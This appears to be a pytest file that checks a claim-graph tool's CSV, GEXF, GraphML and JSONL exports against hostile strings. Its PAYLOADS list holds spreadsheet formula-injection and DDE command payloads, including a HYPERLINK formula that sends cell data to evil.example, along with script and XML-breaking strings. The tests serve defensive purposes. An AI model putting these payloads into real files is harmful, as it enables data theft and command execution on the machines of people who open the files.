"""Exports are safe to open: script and formula payloads in actor names, quotes and titles
stay text in Excel and parse as XML in Gephi and yEd."""

from __future__ import annotations

import csv
import io
import json

import networkx as nx
import pytest
from lxml import etree

from patron.graph.export import claim_graph, render
from patron.kb import KnowledgeBase
from patron.model import Actor, Claim, Document, Evidence, TimeSpan
from patron.spreadsheet import FORMULA_START
from tests.factory import run_cli

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert('x')</script>",
    "\"quoted\" & 'apostrophes' ]]> <!-- --> &amp; <![CDATA[x]]>",
    "escape \x1b[31m and vertical tab \x0b and form feed \x0c",
]


@pytest.fixture
def hostile(kb: KnowledgeBase) -> KnowledgeBase:
    """Actors named with the payloads, claims whose quotes, statements and sources hold them."""
    actors = [Actor(id=f"payload-{i}", name=p, kind="armed_group", aliases=(p,))
              for i, p in enumerate(PAYLOADS)]  # fmt: skip
    kb.store.put_actors(actors, origin="test")
    docs = [Document(id=f"doc-payload-{i}", title=p, publisher=p, url=p)
            for i, p in enumerate(PAYLOADS)]  # fmt: skip
    claims = [
        Claim(subject=f"payload-{i}", type="funding", object="hamas",
              time=TimeSpan(start="2020", end="2021"), statement=p,
              attribution={"by": p}, evidence=Evidence(document=f"doc-payload-{i}", quote=p))
        for i, p in enumerate(PAYLOADS)
    ]  # fmt: skip
    kb.store.add(docs, claims)
    return kb


def _strict_xml(data: bytes) -> etree._Element:
    return etree.fromstring(data, etree.XMLParser(recover=False, resolve_entities=False))


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_graph_files_are_valid_xml_whatever_the_names_hold(
    hostile: KnowledgeBase, fmt: str
) -> None:
    data = render(fmt, claim_graph(hostile.store))
    root = _strict_xml(data)
    assert not [e for e in root.iter() if etree.QName(e).localname == "script"]
    back = nx.read_gexf(io.BytesIO(data)) if fmt == "gexf" else nx.read_graphml(io.BytesIO(data))
    labels = {d.get("label") for _, d in back.nodes(data=True)}
    assert "<script>alert('x')</script>" in labels  # escaped, kept as text
    assert PAYLOADS[6] in labels
    assert "escape \ufffd[31m and vertical tab \ufffd and form feed \ufffd" in labels


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START)]  # fmt: skip


def test_csv_cells_that_would_be_formulas_are_text(
    hostile: KnowledgeBase, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, claims_csv, _ = run_cli(capsys, "export", "csv", "--db", db_url)
    assert code == 0
    assert _formula_cells(claims_csv) == []
    rows = list(csv.DictReader(io.StringIO(claims_csv)))
    mine = next(r for r in rows if r["subject.id"] == "payload-0")
    assert mine["subject.name"] == "'" + PAYLOADS[0]
    assert mine["statement"] == mine["evidence.quote"] == mine["source.title"] == "'" + PAYLOADS[0]
    edges = render("edges", claim_graph(hostile.store)).decode()
    assert _formula_cells(edges) == []
    code, listing, _ = run_cli(capsys, "claims", "--actor", "hamas", "--format", "csv",
                               "--db", db_url)  # fmt: skip
    assert code == 0 and _formula_cells(listing) == []


def test_json_exports_keep_the_payloads_exactly(
    hostile: KnowledgeBase, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run_cli(capsys, "export", "jsonl", "--db", db_url)
    assert code == 0
    statements = {json.loads(line)["statement"] for line in out.splitlines()}
    assert set(PAYLOADS) <= statements  # only spreadsheets and XML get the safe forms
